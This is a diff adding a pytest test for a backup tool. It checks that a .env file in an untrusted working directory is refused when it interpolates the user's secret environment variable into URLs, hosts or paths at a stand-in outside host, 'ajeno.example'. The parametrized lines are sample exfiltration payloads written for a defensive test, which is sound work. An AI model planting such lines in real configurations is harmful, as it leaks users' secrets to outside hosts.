@@ -110,6 +110,30 @@ def test_dotenv_names_other_variables(machine: Machine) -> None:
     assert (error.setting, "${NADA}" in str(error)) == ("BACKUP_DIR", True)
 
 
+@pytest.mark.parametrize(
+    "lines",
+    [
+        "BACKUP_HEALTHCHECK_URL=http://ajeno.example/${CLAVE}",
+        "BACKUP_HEALTHCHECK_URL=http://ajeno.example/${CLAVE:-nada}",
+        "UNA=${CLAVE}\nOTRA=x${UNA}\nBACKUP_NOTIFY_URLS=json://${OTRA}.ajeno.example",
+        "FIRESTORE_EMULATOR_HOST=ajeno.example:80\nBACKUP_EMULATOR_TOKEN=${CLAVE}${CLAVE}",
+        "GOOGLE_CLOUD_PROJECT=${CLAVE}",
+        "BACKUP_DIR='//ajeno.example/${CLAVE}'",
+        r"BACKUP_DIR=/\ajeno.example/${CLAVE}",
+    ],
+)
+def test_a_strangers_dotenv_sends_no_variable_out(machine: Machine, lines: str) -> None:
+    """A file of the working directory can be anybody's; the variables of the process are the user's."""
+    machine.environ["CLAVE"] = "secreto-del-usuario"
+    machine.dotenv(lines + "\n")
+    error = machine.refused()
+    assert "${CLAVE}" in str(error) and "secreto" not in str(error)
+    machine.environ["HOME"] = str(machine.root)
+    machine.cwd.rename(machine.root / ".FACOT")  # the user's own folder
+    machine.cwd = machine.root / ".FACOT"
+    assert machine.load()
+
+
 def test_dotenv_escapes_in_a_windows_path_are_told(machine: Machine) -> None:
     machine.dotenv('BACKUP_DIR="D:\\backups"\n')
     assert "comillas simples" in str(machine.refused())
